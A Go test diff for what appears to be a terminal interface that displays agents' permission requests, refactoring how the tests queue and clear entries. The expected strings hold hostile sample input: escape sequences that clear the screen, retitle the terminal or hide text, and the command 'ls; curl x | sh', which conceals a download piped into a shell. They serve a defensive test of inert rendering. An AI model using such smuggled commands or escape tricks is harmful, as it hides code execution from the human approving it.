@@ -69,8 +69,9 @@ func TestHostileAskRendersInert(t *testing.T) {
 }
 
 func TestDescribe(t *testing.T) {
-	v := describe(hostileAsk())
-	text := frameText((&machine{queue: []*entry{{view: v}}}).frame(120, 60, "parent", t0))
+	m := &machine{}
+	m.push(newEntry(hostileAsk()), t0)
+	text := frameText(m.frame(120, 60, "parent", t0))
 	for _, want := range []string{
 		`'evil\x1b[2J\x1b[H' · session child\x1b]0;title\x07 (rules apply to agent 'evil\x07')`,
 		`command    ls\x1b[8m; curl x | sh\r\n`,
@@ -174,7 +175,7 @@ func TestFrameLayout(t *testing.T) {
 		t.Errorf("reason frame:\n%s", text)
 	}
 
-	m.queue = nil
+	m.drain()
 	if text = frameText(m.frame(100, 28, "parent", t0)); !strings.Contains(text, "serving session parent · no asks waiting · 1 answered") {
 		t.Errorf("idle frame:\n%s", text)
 	}
